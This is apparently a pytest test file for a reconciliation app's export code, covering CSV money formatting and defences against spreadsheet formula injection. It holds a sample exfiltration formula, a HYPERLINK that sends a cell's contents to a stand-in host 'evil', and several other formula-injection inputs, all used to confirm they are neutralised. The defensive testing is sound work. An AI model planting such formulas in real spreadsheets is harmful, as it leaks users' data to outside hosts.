from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recon.app import queries
from recon.app.export import exceptions_csv, frame_csv, frame_xlsx, spreadsheet_safe
from recon.app.filters import Filters
from recon.snapshot.schema import EXCEPTION_FIELDS
from tests.app.demo_warehouse import Warehouse


def test_csv_has_contract_fields_and_money_with_two_decimals(wh: Warehouse) -> None:
    #            id   kind               store day           pos       erp      diff
    wh.exception("a", "amount_mismatch", "1", "2024-06-01", "10.005", "9.5", "-0.505",
                 pos_ref="5120")  # fmt: skip
    wh.exception("b", "stock_variance", "1", "2024-06-01", "5.5", "2", "-3.5")
    wh.exception("c", "unknown_sku", None, None)

    text = exceptions_csv(wh.read(queries.exceptions, Filters()))
    rows = list(csv.DictReader(io.StringIO(text)))

    assert tuple(rows[0])[: len(EXCEPTION_FIELDS)] == EXCEPTION_FIELDS
    got = {
        r["id"]: (r["business_day"], r["pos_value"], r["erp_value"], r["difference"]) for r in rows
    }
    assert got == {
        "a": ("2024-06-01", "10.01", "9.50", "-0.51"),  # money: two decimals, half up
        "b": ("2024-06-01", "5.500", "2.000", "-3.500"),  # quantities keep three
        "c": ("", "", "", ""),  # absent values empty
    }
    assert rows[0]["first_seen"] == "2024-06-02T06:00:00Z"


# --- formula injection: vendor text never runs in a spreadsheet -----------------------

EVIL = '=HYPERLINK("http://evil/x?"&A2,"Click for details")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.51", "-0.51"),  # a negative amount stays a number
        ("+3", "+3"),
        ("-1.5e3", "-1.5e3"),
        ("-١", "'-١"),  # an Arabic-Indic digit is no number to a spreadsheet
        ("Cash", "Cash"),
        ("a=b", "a=b"),  # only the first character counts
        ("", ""),
    ],
)
def test_spreadsheet_safe_cells(text: str, written: str) -> None:
    frame = pl.DataFrame({"t": [text, None]})
    assert spreadsheet_safe(frame)["t"].to_list() == [written, None]


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=12))
def test_spreadsheet_safe_never_starts_a_formula_and_loses_nothing(text: str) -> None:
    (out,) = spreadsheet_safe(pl.DataFrame({"t": [text]}))["t"].to_list()
    assert out in (text, "'" + text)  # nothing lost: at most a leading quote
    if out[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(out)  # only a number may start like that


def test_exceptions_csv_neutralises_vendor_text_and_keeps_negative_money(wh: Warehouse) -> None:
    wh.exception("a", "unknown_sku", "1", "2024-06-01", sku=EVIL)
    wh.exception("b", "tender_variance", "1", "2024-06-01", "10.00", "9.49", "-0.51",
                 tender="@Card")  # fmt: skip

    text = exceptions_csv(wh.read(queries.exceptions, Filters()))
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}

    assert (rows["a"]["sku"], rows["b"]["tender"]) == ("'" + EVIL, "'@Card")
    assert rows["b"]["difference"] == "-0.51"


def test_frame_csv_neutralises_text_and_leaves_numbers() -> None:
    frame = pl.DataFrame(
        {
            "message": ["-ERR lock", "+44 20 7946", "ok"],
            "amount": [Decimal("-12.50"), Decimal("3.00"), None],
            "as_text": ["-12.50", "=1+1", None],
        },
        schema={"message": pl.String, "amount": pl.Decimal(18, 2), "as_text": pl.String},
    )
    rows = list(csv.reader(io.StringIO(frame_csv(frame))))
    assert rows == [
        ["message", "amount", "as_text"],
        ["'-ERR lock", "-12.50", "-12.50"],
        ["'+44 20 7946", "3.00", "'=1+1"],
        ["ok", "", ""],
    ]


def _xlsx_cells(book: bytes) -> list[tuple[str, str, str]]:
    """(cell, what, value) of the first sheet: what is `formula`, `text` or `number`."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        shared = [
            "".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t"))
            for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)
        ]
        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
        assert not [n for n in z.namelist() if "_rels/sheet" in n]  # no hyperlinks
    out = []
    for c in sheet.iter(f"{{{ns['m']}}}c"):
        value = c.find("m:v", ns)
        text = value.text or "" if value is not None else ""
        if c.find("m:f", ns) is not None:
            out.append((c.get("r", ""), "formula", text))
        elif c.get("t") == "s":
            out.append((c.get("r", ""), "text", shared[int(text)]))
        else:
            out.append((c.get("r", ""), "number", text))
    return out


def test_frame_xlsx_writes_text_as_text_never_a_formula_or_a_link() -> None:
    frame = pl.DataFrame(
        {"sku": [EVIL, "http://evil/x"], "amount": [Decimal("-12.50"), Decimal("1.00")]},
        schema={"sku": pl.String, "amount": pl.Decimal(18, 2)},
    )
    assert _xlsx_cells(frame_xlsx(frame)) == [
        ("A1", "text", "sku"),
        ("B1", "text", "amount"),
        ("A2", "text", "'" + EVIL),
        ("B2", "number", "-12.5"),  # a number, formatted 0.00
        ("A3", "text", "http://evil/x"),  # text, not an auto-link
        ("B3", "number", "1"),
    ]
